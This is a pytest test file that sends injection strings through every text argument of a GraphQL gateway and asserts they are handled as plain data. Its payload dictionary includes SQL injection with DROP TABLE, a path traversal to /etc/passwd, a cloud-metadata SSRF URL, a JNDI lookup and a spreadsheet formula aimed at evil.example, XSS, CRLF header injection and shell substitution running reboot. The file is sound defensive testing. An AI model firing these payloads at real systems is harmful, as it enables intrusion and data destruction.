"""Injection strings in every argument of text: they are data, or no value of its type."""

import json
from collections.abc import Iterator

import graphql
import pytest
from support.hostile import Case, Gateway
from support.raw_http import request
from support.utility import ACCOUNT, CUSTOMER

from gateway.execution.schema import GatewaySchema

STRINGS = {
    "SQL": "' OR '1'='1' --",
    "SQL union": "1'); DROP TABLE bill; --",
    "SQL wait": "'; SELECT pg_sleep(10)--",
    "LIKE": "%_%",
    "paths": "../../../../etc/passwd\0.json",
    "URL": "http://169.254.169.254/latest/meta-data/?a=b&c#d",
    "template": "${jndi:ldap://evil.example/a}{{7*7}}<%= 7 %>%s%n{0.__class__}",
    "HTML": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "CRLF": "x\r\nSet-Cookie: a=b\r\n\r\nGET /metrics HTTP/1.1",
    "shell": "$(reboot)`reboot`;|reboot&",
    "GraphQL": '") { __typename } secret: node(id: "x',
    "marks": "\u202e\ufeff\u0000\ud800",
    "formula": '=HYPERLINK("http://evil.example")',
    "base64": "Qm9i" * 2_000,
    "digits": "9" * 5_000,
}
# Where a type stands in the graph.
PLACES = {
    "Query": "%s",
    "Customer": f'customer(id: "{CUSTOMER}") {{ %s }}',
    "BillingAccount": f'billingAccount(id: "{ACCOUNT}") {{ %s }}',
}
TEXTS = {"ID", "String", "Date", "DateTime", "Decimal", "Url"}
EVERY = 5
SCHEMA = graphql.build_schema(GatewaySchema().as_str())


def arguments() -> Iterator[tuple[str, str]]:
    """The name of every argument of text in these types, and a document that fills it from `$v`."""
    for name, place in PLACES.items():
        type_ = SCHEMA.type_map[name]
        assert isinstance(type_, graphql.GraphQLObjectType)
        for field_name, field in type_.fields.items():
            for argument, value, of in _paths(field.args):
                selection = " { __typename }" if graphql.is_composite_type(graphql.get_named_type(field.type)) else ""
                document = place % f"{field_name}({value}){selection}"
                yield f"{name}.{field_name}({argument})", f"query Q($v: {of}) {{ {document} }}"


def _paths(fields: dict[str, graphql.GraphQLArgument]) -> Iterator[tuple[str, str, str]]:
    """Arguments and fields of inputs: their names, how a document fills them, and their types."""
    for name, argument in fields.items():
        named = graphql.get_named_type(argument.type)
        if named.name in TEXTS:
            is_list = graphql.is_list_type(graphql.get_nullable_type(argument.type))
            yield name, f"{name}: [$v]" if is_list else f"{name}: $v", f"{named.name}!"
        elif isinstance(named, graphql.GraphQLInputObjectType):
            for inner, value, of in _paths(named.fields):  # type: ignore[arg-type]  # both have a type
                yield f"{name}.{inner}", f"{name}: {{ {value} }}", of


def strings_for(argument: str, number: int) -> list[tuple[str, str]]:
    """All strings for arguments of the root, which search; each argument below it has some of them."""
    strings = list(STRINGS.items())
    return strings if argument.startswith("Query.") else strings[number % EVERY :: EVERY]


CASES = [
    Case(
        f"{kind} in {argument}",
        request(json.dumps({"query": document, "variables": {"v": text}}).encode()),
        (200, 400),
        batches=8,  # as many as an honest value costs
    )
    for number, (argument, document) in enumerate(arguments())
    for kind, text in strings_for(argument, number)
]


@pytest.mark.parametrize("case", CASES, ids=str)
async def test_injected_text_is_data(gateway: Gateway, case: Case) -> None:
    reply = await gateway.survives(case)
    assert reply is not None
    for text in (b"onerror", b"evil.example", b"DROP TABLE", b"meta-data", b"etc/passwd", b"jndi"):
        assert text not in reply.body
    assert b"set-cookie" not in " ".join(reply.headers).encode().lower()


@pytest.mark.parametrize("kind", STRINGS)
async def test_injected_text_is_searched_as_it_is(gateway: Gateway, kind: str) -> None:
    gateway.batches.clear()
    document = "query Q($v: String) { customer(customerNumber: $v) { customerNumber } }"
    reply = await gateway.reply(request(json.dumps({"query": document, "variables": {"v": STRINGS[kind]}}).encode()))
    assert reply is not None
    assert reply.json().get("data") in ({"customer": None}, None)  # a lone surrogate is refused before
    keys = [key for batch in gateway.batches for key in batch.keys]
    assert keys in ([STRINGS[kind]], [])
